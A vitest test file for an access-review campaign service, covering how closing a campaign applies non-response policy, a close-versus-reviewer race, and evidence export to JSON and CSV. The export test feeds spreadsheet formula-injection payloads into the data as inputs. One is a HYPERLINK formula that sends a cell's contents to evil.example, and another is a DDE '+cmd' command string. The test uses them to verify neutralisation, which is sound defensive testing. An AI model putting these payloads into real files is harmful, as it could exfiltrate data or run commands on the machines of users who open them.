import crypto from "node:crypto";
import { parse } from "csv-parse/sync";
import { and, eq, inArray } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { db } from "@/db";
import { createCredential, createUser } from "@/db/seed/factories";
import { auditEvents, credentials, entitlements, hookDeliveries, hookEvents, hooks, reviewItems } from "@/db/schema";
import { userActor } from "@/lib/domain/actor";
import { createHook } from "@/lib/domain/hooks/manage-hooks";
import { AppError } from "@/lib/errors";
import { createCampaignInput } from "@/lib/validation/campaigns";
import { DAY, admin, decide, itemFor, itemsOf, launched, ownedGrants } from "@/tests/campaigns/world";
import { onCampaignItemDecided } from "./advance-stage";
import { closeCampaign } from "./close-campaign";
import { createCampaign } from "./create-campaign";
import { neutraliseCell } from "./evidence-csv";
import { exportCampaignEvidence } from "./export-evidence";

async function rejection(promise: Promise<unknown>): Promise<AppError> {
  const error = await promise.then(() => null, (e: unknown) => e);
  expect(error).toBeInstanceOf(AppError);
  return error as AppError;
}

const statusOf = async (ids: string[]) =>
  Object.fromEntries((await db.select({ id: entitlements.id, status: entitlements.status }).from(entitlements).where(inArray(entitlements.id, ids))).map((e) => [e.id, e.status]));

/** The CSV's two tables: items (header + rows) and the summary (key,value) after the blank line. */
function parseEvidence(csv: string) {
  const [itemsPart, summaryPart] = csv.split("\r\n\r\n");
  const items = parse(itemsPart!, { columns: true, skip_empty_lines: true }) as Record<string, string>[];
  const summary = Object.fromEntries((parse(summaryPart!, { skip_empty_lines: true }) as string[][]).slice(1).map(([k, v]) => [k, v]));
  return { items, summary, cells: parse(csv, { relax_column_count: true, skip_empty_lines: true }).flat() as string[] };
}

describe("[CAMPAIGNS] close applies the non-response policy (invariant 8)", () => {
  it("keep: undecided items become non_response and closed; access stays; counts recorded in the audit event", async () => {
    const actor = await admin();
    const { bo, grants } = await ownedGrants(3);
    const { campaign } = await launched(actor, bo.id, { nonResponse: "keep" });
    await decide((await itemFor(campaign.id, grants[0]!.id, "business_owner"))!.id, userActor(bo), "certify");

    const out = await closeCampaign(actor, campaign.id, "quarter over");
    // grant 0 is pending at stage 2, grants 1 and 2 at stage 1: three undecided entitlements.
    expect(out).toMatchObject({ status: "closed", nonResponsePolicy: "keep", nonResponse: 3, revoked: 0, kept: 3 });
    const items = await itemsOf(campaign.id);
    expect(items.filter((i) => i.status === "pending")).toHaveLength(0);
    expect(items.filter((i) => i.decision === "non_response").every((i) => i.status === "closed" && i.decidedAt && /kept/.test(i.closedReason!))).toBe(true);
    expect(Object.values(await statusOf(grants.map((g) => g.id)))).toEqual(["active", "active", "active"]);
    const [audit] = await db.select().from(auditEvents).where(and(eq(auditEvents.action, "campaign.closed"), eq(auditEvents.targetId, campaign.id)));
    expect(audit).toMatchObject({ reason: "quarter over", after: { nonResponse: 3, revoked: 0, kept: 3, nonResponsePolicy: "keep" } });
    // Closing twice is a conflict, not a second application of the policy.
    expect((await rejection(closeCampaign(actor, campaign.id))).status).toBe(409);
  });

  it("revoke: undecided grants are revoked for real — scoped credentials too, one audit event and hook outbox rows each", async () => {
    const actor = await admin();
    const hook = await createHook(userActor(await createUser(db, { roles: ["identity_owner"] })), {
      name: "idp",
      url: "https://93.184.216.34/hook",
      events: ["entitlement.revoked"],
      format: "standard-webhooks",
    });
    const { bo, grants } = await ownedGrants(3);
    const key = await createCredential(db, { nhiId: grants[1]!.nhiId, entitlementId: grants[1]!.id });
    const { campaign } = await launched(actor, bo.id, { nonResponse: "revoke", stages: ["business_owner"] });
    await decide((await itemFor(campaign.id, grants[0]!.id, "business_owner"))!.id, userActor(bo), "certify");

    const out = await closeCampaign(actor, campaign.id);
    expect(out).toMatchObject({ nonResponse: 2, revoked: 2, kept: 0 });
    expect(await statusOf(grants.map((g) => g.id))).toEqual({ [grants[0]!.id]: "active", [grants[1]!.id]: "revoked", [grants[2]!.id]: "revoked" });
    expect((await db.select().from(credentials).where(eq(credentials.id, key.id)))[0]!.status).toBe("revoked");
    for (const g of [grants[1]!, grants[2]!]) {
      const audits = await db.select().from(auditEvents).where(and(eq(auditEvents.action, "entitlement.revoked"), eq(auditEvents.targetId, g.id)));
      expect(audits).toHaveLength(1);
      const events = await db.select().from(hookEvents).where(eq(hookEvents.revocationId, audits[0]!.after!.revocationId as string));
      expect(events).toHaveLength(1);
      expect(await db.select().from(hookDeliveries).where(and(eq(hookDeliveries.eventId, events[0]!.id), eq(hookDeliveries.hookId, hook.id)))).toHaveLength(1);
    }
  });
});

describe("[CAMPAIGNS] close racing a reviewer", () => {
  it("a certify committing while close waits on its item leaves no pending item behind in the closed campaign", async () => {
    const actor = await admin();
    const { bo, grants } = await ownedGrants(1);
    const { campaign } = await launched(actor, bo.id, { nonResponse: "keep" });
    const first = (await itemFor(campaign.id, grants[0]!.id, "business_owner"))!;
    let release!: () => void;
    const held = new Promise<void>((r) => (release = r));
    let locked!: () => void;
    const isLocked = new Promise<void>((r) => (locked = r));
    // The reviewer's transaction: decide stage 1 (row locked), open stage 2, then wait before committing.
    const reviewer = db.transaction(async (tx) => {
      const now = new Date();
      const [item] = await tx.update(reviewItems).set({ status: "decided", decision: "certify", decidedAt: now, decidedById: bo.id }).where(eq(reviewItems.id, first.id)).returning();
      await onCampaignItemDecided(tx, item!, now);
      locked();
      await held;
    });
    await isLocked;
    const closing = closeCampaign(actor, campaign.id);
    await new Promise((r) => setTimeout(r, 300)); // close is now blocked on the stage-1 item
    release();
    await reviewer;
    const out = await closing;
    const items = await itemsOf(campaign.id);
    expect(items.filter((i) => i.status === "pending")).toEqual([]);
    expect(items.find((i) => i.stage === "identity_owner")).toMatchObject({ status: "closed", decision: "non_response" });
    expect(out).toMatchObject({ nonResponse: 1, kept: 1 });
  });
});

describe("[CAMPAIGNS] evidence package", () => {
  it("reconciles (population = decided + non-response), proves every revoke and neutralises formula injection in CSV", async () => {
    const actor = await admin();
    await createHook(userActor(await createUser(db, { roles: ["identity_owner"] })), {
      name: "idp2",
      url: "https://93.184.216.34/hook2",
      events: ["entitlement.revoked"],
      format: "standard-webhooks",
    });
    const subscribed = (await db.select().from(hooks).where(eq(hooks.active, true))).length;
    expect(subscribed).toBeGreaterThan(0);
    const { bo, io, grants } = await ownedGrants(4, { name: `=HYPERLINK("http://evil.example/?x="&A1,"click") ${crypto.randomUUID()}` });
    const { campaign } = await launched(actor, bo.id, { nonResponse: "revoke", name: "@SUM(1+1) quarterly" });
    const [g0, g1, g2, g3] = grants;
    // g0 certified at both stages; g1 revoked at stage 1; g2 certified at stage 1 then revoked at stage 2; g3 never answered.
    await decide((await itemFor(campaign.id, g0!.id, "business_owner"))!.id, userActor(bo), "certify", "+cmd|' /C calc'!A0");
    await decide((await itemFor(campaign.id, g0!.id, "identity_owner"))!.id, userActor(io), "certify");
    await decide((await itemFor(campaign.id, g1!.id, "business_owner"))!.id, userActor(bo), "revoke", "-2+3 unused since March");
    await decide((await itemFor(campaign.id, g2!.id, "business_owner"))!.id, userActor(bo), "certify");
    await decide((await itemFor(campaign.id, g2!.id, "identity_owner"))!.id, userActor(io), "revoke", "\t=1+1 tab-led");
    await closeCampaign(actor, campaign.id);

    const json = await exportCampaignEvidence(actor, campaign.id, "json");
    const doc = JSON.parse(json.body);
    expect(doc.totals).toMatchObject({ population: 4, decided: 3, certified: 1, revoked: 2, nonResponse: 1, nonResponseRevoked: 1, pending: 0, reconciles: true, items: 6 });
    expect(doc.totals.equation).toContain("population 4 = decided 3");
    expect(doc.campaign).toMatchObject({ status: "closed", snapshotHashVerified: true, populationSize: 4 });
    const outcomes = Object.fromEntries(doc.items.map((i: { entitlementId: string; outcome: string }) => [i.entitlementId, i.outcome]));
    expect(outcomes).toEqual({ [g0!.id]: "certified", [g1!.id]: "revoked", [g2!.id]: "revoked", [g3!.id]: "non_response_revoked" });
    const revokes = doc.items.filter((i: { decision: string }) => i.decision === "revoke" || i.decision === "non_response");
    expect(revokes).toHaveLength(3);
    for (const item of revokes) {
      expect(item.remediation).toMatchObject({ deliveryStatus: "pending", deliveries: { total: subscribed, pending: subscribed, succeeded: 0, failed: 0 } });
      const [audit] = await db.select().from(auditEvents).where(eq(auditEvents.id, item.remediation.auditEventId));
      expect(audit).toMatchObject({ action: "entitlement.revoked", targetId: item.entitlementId, hash: item.remediation.auditEventHash });
    }
    expect(doc.items.find((i: { decision: string }) => i.decision === "certify").decidedAt).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);

    const csv = await exportCampaignEvidence(actor, campaign.id, "csv");
    const { items, summary, cells } = parseEvidence(csv.body);
    expect(items).toHaveLength(6);
    // No cell a spreadsheet would evaluate: every risky leading character is behind a quote.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(items[0]!.workflow).toMatch(/^'=HYPERLINK\("http:\/\/evil\.example/);
    expect(items.map((i) => i.rationale)).toEqual(expect.arrayContaining(["'+cmd|' /C calc'!A0", "'-2+3 unused since March", "'\t=1+1 tab-led"]));
    expect(summary.campaign_name).toBe("'@SUM(1+1) quarterly");
    expect(summary).toMatchObject({ population: "4", decided: "3", non_response: "1", reconciles: "true", snapshot_hash_verified: "true" });
    const revokedRows = items.filter((i) => i.outcome === "revoked" && i.decision === "revoke");
    expect(revokedRows.every((r) => r.revocation_audit_event_id && r.revocation_audit_event_hash && r.hook_delivery_status === "pending")).toBe(true);

    // The export's SHA-256 (of the exact bytes) is in the audit trail, one event per export.
    const exports = await db.select().from(auditEvents).where(and(eq(auditEvents.action, "campaign.evidence_exported"), eq(auditEvents.targetId, campaign.id))).orderBy(auditEvents.seq);
    expect(exports.map((e) => e.after!.sha256)).toEqual([json.sha256, csv.sha256]);
    expect(crypto.createHash("sha256").update(csv.body, "utf8").digest("hex")).toBe(csv.sha256);
    expect(exports[1]!.after).toMatchObject({ format: "csv", items: 6, population: 4, reconciles: true });
  });

  it("an active campaign exports with pending counted; a draft is a 409; an auditor may export", async () => {
    const actor = await admin();
    const { bo } = await ownedGrants(2);
    const { campaign } = await launched(actor, bo.id);
    const auditor = userActor(await createUser(db, { roles: ["auditor"] }));
    const out = await exportCampaignEvidence(auditor, campaign.id, "json");
    expect(JSON.parse(out.body).totals).toMatchObject({ population: 2, pending: 2, decided: 0, nonResponse: 0, reconciles: true });
    const draft = await createCampaign(actor, createCampaignInput.parse({ name: "draft", dueAt: new Date(Date.now() + DAY) }));
    expect((await rejection(exportCampaignEvidence(auditor, draft.id, "csv"))).status).toBe(409);
  });

  it("neutraliseCell prefixes = + - @ tab and CR, leaves ordinary values alone", () => {
    for (const risky of ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"]) expect(neutraliseCell(risky)).toBe(`'${risky}`);
    expect(neutraliseCell("refund-agent")).toBe("refund-agent");
    expect(neutraliseCell(null)).toBe("");
    expect(neutraliseCell(["read", "write"])).toBe("read write");
  });
});

